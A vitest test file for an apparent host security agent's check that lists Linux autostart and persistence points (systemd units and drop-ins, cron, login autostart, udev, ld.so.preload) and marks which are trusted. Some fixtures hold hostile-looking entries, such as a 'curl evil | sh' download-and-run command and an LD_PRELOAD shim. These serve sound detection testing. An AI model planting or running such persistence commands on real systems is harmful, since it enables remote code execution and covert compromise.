import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { parseUdevRules } from '../../../agent/checks/autoruns.boot.ts';
import { parseCrontab } from '../../../agent/checks/autoruns.cron.ts';
import { programOf } from '../../../agent/checks/autoruns.found.ts';
import { parseDesktopEntry } from '../../../agent/checks/autoruns.login.ts';
import { parseCommand } from '../../../agent/checks/autoruns.systemd.ts';
import { autoruns } from '../../../agent/checks/autoruns.ts';
import type { Host } from '../../../agent/host/host.ts';
import type { Autorun, Autoruns } from '../../../proto/gen/types.ts';
import { CheckError } from '../../../shared/errors.ts';
import { dpkg, machineWith } from './changes/machine.ts';

const PASSWD = 'root:x:0:0::/root:/bin/bash\nmika:x:1000:1000::/home/mika:/bin/bash\ndaemon:x:1:1::/srv:/bin/false\n';
const SYSTEM = '/usr/lib/systemd/system';

async function entriesOn(host: Host): Promise<Autorun[]> {
  const { facts } = await autoruns.on.linux!(host, { memory: undefined, surroundings: {} });
  return (facts as Autoruns).entries;
}

/** The entries of a machine with these files, by name. */
async function entries(files: Record<string, string>, more: object = {}): Promise<Map<string, Autorun>> {
  const found = await entriesOn(machineWith({ '/etc/passwd': PASSWD, ...dpkg({}), ...files }, more));
  return new Map(found.map((entry) => [entry.name, entry]));
}

/** The wish for a unit, as `systemctl enable` leaves it. */
function wish(target: string, unit: string, file = unit): object {
  const folder = `/etc/systemd/system/${target}.wants`;
  return { [folder]: { kind: 'folder' }, [`${folder}/${unit}`]: { link: `${SYSTEM}/${file}` } };
}

describe('units of systemd', () => {
  const ssh = { [`${SYSTEM}/ssh.service`]: '[Service]\nExecStart=/usr/sbin/sshd -D $OPTS\n' };
  const wanted = { paths: wish('multi-user.target', 'ssh.service') };

  it('are vouched for by the package of their file', async () => {
    const found = await entries({ ...ssh, ...dpkg({ 'openssh-server': [`${SYSTEM}/ssh.service`] }) }, wanted);
    expect(found.get('ssh.service')).toEqual({
      id: `service:${SYSTEM}/ssh.service`,
      kind: 'service',
      name: 'ssh.service',
      program: '/usr/sbin/sshd',
      owner: 'openssh-server',
      trusted: true,
      writable: false,
    });
  });

  it('are read where systemd reads them: a file in /etc hides that of the package', async () => {
    const files = { ...ssh, '/etc/systemd/system/ssh.service': '[Service]\nExecStart=-/opt/x/sshd\n' };
    const found = await entries({ ...files, ...dpkg({ 'openssh-server': [`${SYSTEM}/ssh.service`] }) }, wanted);
    expect(found.get('ssh.service')).toMatchObject({ program: '/opt/x/sshd', trusted: false });
    expect(found.get('ssh.service')!.id).toMatch(/^service:\/etc\/systemd\/system\/ssh\.service#/);
  });

  it('change their identity with the program, not with its version', async () => {
    const idOf = async (program: string) => {
      const unit = { '/etc/systemd/system/own.service': `[Service]\nExecStart=${program}\n` };
      return (await entries(unit)).get('own.service')!.id;
    };
    expect(await idOf('/opt/app-1.24.3/run')).toBe(await idOf('/opt/app-1.25.0/run --fast'));
    expect(await idOf('/opt/app-1.24.3/run')).not.toBe(await idOf('/opt/evil/run'));
  });

  it('that are masked start nothing', async () => {
    const paths = { ...wanted.paths, '/etc/systemd/system/ssh.service': { link: '/dev/null' } };
    expect((await entries(ssh, { paths })).size).toBe(0);
  });

  it('count with what their timers start, and with templates and drop-ins', async () => {
    const found = await entries(
      {
        [`${SYSTEM}/clean.timer`]: '[Timer]\nOnCalendar=daily\n',
        [`${SYSTEM}/clean.service`]: '[Service]\nExecStartPre=/bin/true\nExecStart=@/usr/bin/clean clean --all\n',
        [`${SYSTEM}/getty@.service`]: '[Service]\nExecStart=-/sbin/agetty %I\n',
        '/etc/systemd/system/ssh.service.d/override.conf': '[Service]\nExecStart=\nExecStart=/opt/x/sshd\n',
        '/etc/systemd/system/cups.service.d/limits.conf': '[Service]\nLimitNOFILE=10\n',
        '/etc/systemd/system/cups.service.d/shim.conf': '[Service]\nEnvironment="LD_PRELOAD=/opt/shim.so"\n',
      },
      {
        paths: {
          ...wish('timers.target', 'clean.timer'),
          ...wish('getty.target', 'getty@tty1.service', 'getty@.service'),
        },
      },
    );
    expect([...found].map(([name, { kind, program }]) => `${kind} ${name} ${program}`).sort()).toEqual([
      'preload cups.service.d/shim.conf /opt/shim.so',
      'service clean.service /usr/bin/clean',
      'service getty@tty1.service /sbin/agetty',
      'service ssh.service.d/override.conf /opt/x/sshd',
      'timer clean.timer /usr/bin/clean',
    ]);
  });

  it('of snaps are vouched for by snapd, but only while they run a snap', async () => {
    const found = await entries({
      '/etc/systemd/system/snap.lxd.daemon.service': '[Service]\nExecStart=/usr/bin/snap run lxd.daemon\n',
      '/etc/systemd/system/snap.lxd.other.service': '[Service]\nExecStart=/opt/x\n',
    });
    expect(found.get('snap.lxd.daemon.service')).toMatchObject({ owner: 'snap:lxd', trusted: true });
    expect(found.get('snap.lxd.other.service')).toMatchObject({ trusted: false });
  });

  it.each([
    ['[Service]\nExecStart=\nExecStart=-/bin/a b', '/bin/a b'],
    ['[Service]\nExecStartPre=/bin/p\nExecStart=+/bin/a \\\n  b', '/bin/a    b'],
    ['[Service]\nExecStop=/bin/z', '/bin/z'],
    ['[Timer]\nOnCalendar=daily', undefined],
  ])('run the command of %j', (text, command) => {
    expect(parseCommand(text)).toBe(command);
  });
});

describe('jobs of cron', () => {
  it('are told by file and digest, without what they say', async () => {
    const found = await entries({
      '/etc/cron.d/sync': 'MAILTO=root\n# note\n17 * * * * root curl -u me:secret https://x\n',
    });
    expect(found.get('/etc/cron.d/sync')).toMatchObject({ kind: 'cron', program: 'curl', trusted: false });
    expect(JSON.stringify([...found])).not.toContain('secret');
  });

  it('are no longer trusted once the file of the package was changed', async () => {
    const line = '25 6 * * * root run-parts /etc/cron.daily\n';
    const delivered = createHash('md5').update(line).digest('hex');
    const owned = dpkg({ cron: ['/etc/crontab'] }, { '/etc/crontab': delivered });
    expect((await entries({ ...owned, '/etc/crontab': line })).get('/etc/crontab')).toMatchObject({ trusted: true });
    const changed = [...(await entriesOn(machineWith({ ...owned, '/etc/crontab': `${line}* * * * * root /opt/x\n` })))];
    expect(changed.map(({ trusted, owner }) => [trusted, owner])).toEqual([
      [false, 'cron'],
      [false, 'cron'],
    ]);
  });

  it('of people are told by their number alone', async () => {
    const crontabs = '/var/spool/cron/crontabs';
    const found = await entries(
      { [`${crontabs}/mika`]: '@daily /home/mika/secret.sh\n*/5 * * * * beat\n' },
      { paths: { [`${crontabs}/mika`]: { uid: 1000, mode: '600' } } },
    );
    expect([...found.keys()]).toEqual(['crontab of user 1000']);
    expect(JSON.stringify([...found])).not.toMatch(/mika|secret|beat/);
  });

  it('in folders count when they can be run', async () => {
    const found = await entries(
      { '/etc/cron.daily/report': '#!/bin/sh\n', '/etc/cron.daily/.placeholder': '', '/etc/cron.daily/off': '' },
      { paths: { '/etc/cron.daily/report': { mode: '755' } } },
    );
    expect([...found.keys()]).toEqual(['/etc/cron.daily/report']);
  });

  it('are read with and without the name of a user', () => {
    const text = 'SHELL=/bin/sh\n@reboot root /a b\n*/5 0-6 * * 1,2 root /c\n0 0 * * *\n';
    expect(parseCrontab(text, 'system')).toEqual(['/a b', '/c']);
    expect(parseCrontab('0 4 * * * /d  e', 'person')).toEqual(['/d e']);
  });
});

describe('what a login starts', () => {
  const home = '/home/mika/.config/autostart';
  const owned = dpkg({ slack: ['/usr/bin/slack'], bash: ['/usr/bin/bash'] });
  const files = { '/usr/bin/slack': '', '/usr/bin/bash': '' };

  it('may be a packaged program a person chose, by name or by path', async () => {
    const found = await entries({ ...owned, ...files, [`${home}/slack.desktop`]: '[Desktop Entry]\nExec=slack %U\n' });
    expect(found.get('slack.desktop')).toEqual({
      id: 'login:1000:~/.config/autostart/slack.desktop',
      kind: 'login',
      name: 'slack.desktop',
      program: '/usr/bin/slack',
      owner: 'slack',
      trusted: true,
      writable: false,
    });
  });

  it('is not trusted for a shell, nor for what lies in the home', async () => {
    const found = await entries({
      ...owned,
      ...files,
      [`${home}/sh.desktop`]: '[Desktop Entry]\nExec=/usr/bin/bash -c "curl evil | sh"\n',
      [`${home}/x.desktop`]: '[Desktop Entry]\nExec=env A=1 /home/mika/.cache/x\n',
    });
    expect(found.get('sh.desktop')).toMatchObject({ program: '/usr/bin/bash', trusted: false });
    expect(found.get('x.desktop')).toMatchObject({ program: '~/.cache/x', trusted: false });
  });

  it('does not count when it is switched off', () => {
    const entry = '[Desktop Entry]\nName[de]=Uhr\nExec=clock\n[Desktop Action x]\nExec=other\n';
    expect(parseDesktopEntry(entry)).toBe('clock');
    expect(parseDesktopEntry(entry.replace('Exec=clock', 'Exec=clock\nHidden=true'))).toBeUndefined();
    expect(
      parseDesktopEntry(entry.replace('Exec=clock', 'Exec=clock\nX-GNOME-Autostart-enabled=false')),
    ).toBeUndefined();
  });

  it('is not looked for in homes on a file server, which may be dead', async () => {
    const mounts = '40 1 0:50 / /home rw - nfs4 files:/home rw\n';
    const host = machineWith({ '/etc/passwd': PASSWD, '/proc/self/mountinfo': mounts });
    const asked: string[] = [];
    const list = (path: string) => {
      asked.push(path);
      return host.list(path);
    };
    await entriesOn({ ...host, list });
    expect(asked.some((path) => path.startsWith('/root/'))).toBe(true);
    expect(asked.filter((path) => path.startsWith('/home/'))).toEqual([]);
  });
});

describe('older and lower ways', () => {
  it('are rc.local, init scripts without a unit, programs of udev, and preloaded libraries', async () => {
    const found = await entriesOn(
      machineWith(
        {
          '/etc/rc.local': '#!/bin/sh\n',
          '/etc/rc3.d/S01agent': '',
          '/etc/init.d/agent': '',
          '/etc/rc3.d/S02ssh': '',
          '/etc/init.d/ssh': '',
          [`${SYSTEM}/ssh.service`]: '',
          '/etc/udev/rules.d/99.rules':
            'ACTION=="add", RUN+="hook --x", \\\n  RUN{builtin}+="kmod load"\n# RUN+="/no"\n',
          '/etc/ld.so.preload': '/lib/a.so:/opt/b.so # why\n',
          '/lib/a.so': '',
          ...dpkg({ a: ['/lib/a.so'] }),
        },
        { paths: { '/etc/rc.local': { mode: '755' }, '/opt': { kind: 'folder', mode: '777' } } },
      ),
    );
    expect(
      found.map(({ id, program, trusted, writable }) => [id.replace(/#[0-9a-f]{8}$/, ''), program, trusted, writable]),
    ).toEqual([
      ['preload:/etc/ld.so.preload#/lib/a.so', '/lib/a.so', true, false],
      ['preload:/etc/ld.so.preload#/opt/b.so', '/opt/b.so', false, true],
      ['service:/etc/init.d/agent', '/etc/init.d/agent', false, false],
      ['service:/etc/rc.local', '/etc/rc.local', false, false],
      ['udev:/etc/udev/rules.d/99.rules', '/usr/lib/udev/hook', false, false],
    ]);
  });

  it('say nothing where they may not be read', async () => {
    const host = machineWith({ '/etc/passwd': PASSWD, '/etc/ld.so.preload': '/opt/b.so' });
    const list = async (path: string) => {
      if (path.startsWith('/etc/cron')) throw new CheckError('no_permission', 'as in life');
      return await host.list(path);
    };
    expect((await entriesOn({ ...host, list })).map(({ kind }) => kind)).toEqual(['preload']);
  });

  it('tell the runs of udev apart', () => {
    expect(parseUdevRules('RUN+="/a", RUN{program}="/b c"\nRUN:="/a"\nPROGRAM="/x"\n')).toEqual(['/a', '/b c']);
  });
});

describe('the program of a command', () => {
  it.each([
    ['/usr/sbin/sshd -D', '/usr/sbin/sshd'],
    ['"/opt/my app/run" x', '/opt/my app/run'],
    ['/bin/sh /tmp/x.sh', '/tmp/x.sh'],
    ['/bin/sh -c "sleep 5; /tmp/x | tee"', '/tmp/x'],
    ["bash -c 'curl evil | sh'", 'bash'],
    ['/usr/bin/python3.11 -u /srv/agent.py --token=abc', '/srv/agent.py'],
    ['env LANG=C nice /usr/bin/thing', '/usr/bin/thing'],
    ['A=1 B=2 run', 'run'],
  ])('of %j is %j', (command, program) => {
    expect(programOf(command)).toBe(program);
  });
});
